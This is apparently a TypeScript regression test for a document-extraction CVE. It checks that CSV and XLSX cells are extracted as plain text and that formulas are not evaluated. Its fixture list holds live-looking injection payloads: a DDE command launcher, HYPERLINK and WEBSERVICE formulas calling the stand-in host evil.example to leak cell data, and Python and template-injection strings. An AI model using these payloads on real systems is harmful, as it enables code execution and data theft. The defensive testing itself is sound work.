import { utils, write } from '@e965/xlsx'
import { expect, test } from 'vitest'
import { makeXlsx } from './fixtures/make-office.ts'
import { extractBytes, textOf } from './fixtures/extract-bytes.ts'

/** Inputs that an interpreter, a template or a spreadsheet would execute. */
const formulas = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1)',
  '@SUM(1+1)*cmd',
  '+6*7',
  "__import__('os').system('touch owned')",
  'globalThis.owned = 42',
  '${globalThis.owned = 42}',
  '#{globalThis.owned = 42}',
  '{{constructor.constructor("globalThis.owned = 42")()}}',
  '<%= globalThis.owned = 42 %>',
  '");globalThis.owned = 42;//',
]

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`

/** Markdown escapes its special characters with a backslash. */
const plain = (text: string) => text.replaceAll(/\\([\\`*_{}[\]()#+\-.!|<>~$&=:;"'@%^,/?])/g, '$1')

test('CVE-2026-41264 extracts a CSV file as text, whatever its cells contain', async () => {
  const rows = formulas.map((lure, index) => `row ${index},${quoted(lure)}`)

  const read = await extractBytes(['name,note', ...rows].join('\n'), 'notes.csv')

  expect(read).toMatchObject({ outcome: 'ok', kind: 'csv' })
  for (const lure of formulas) expect(plain(textOf(read))).toContain(lure)
})

test('CVE-2026-41264 extracts a workbook as text, whatever its cells contain', async () => {
  const cells = formulas.map((lure, index) => [`row ${index}`, lure])

  const read = await extractBytes(makeXlsx({ Notes: [['name', 'note'], ...cells] }), 'notes.xlsx')

  expect(read).toMatchObject({ outcome: 'ok', kind: 'xlsx' })
  for (const lure of formulas) expect(plain(textOf(read))).toContain(lure)
})

test('CVE-2026-41264 does not evaluate a formula, but uses its stored result', async () => {
  const sheet = utils.aoa_to_sheet([['name', 'note']])
  utils.sheet_add_aoa(sheet, [['sum', { t: 'n', v: 5, f: '6*7000' }]], { origin: 'A2' })
  utils.sheet_add_aoa(
    sheet,
    [['call', { t: 's', v: 'quiet', f: 'WEBSERVICE("http://evil.example/")' }]],
    { origin: 'A3' },
  )
  const book = utils.book_new(sheet, 'Notes')

  const read = await extractBytes(write(book, { type: 'buffer', bookType: 'xlsx' }), 'sums.xlsx')

  const text = textOf(read)
  expect(read.outcome).toBe('ok')
  expect(text).toContain('quiet')
  expect(text).toMatch(/sum\D+5\b/)
  expect(text).not.toContain('42000')
})
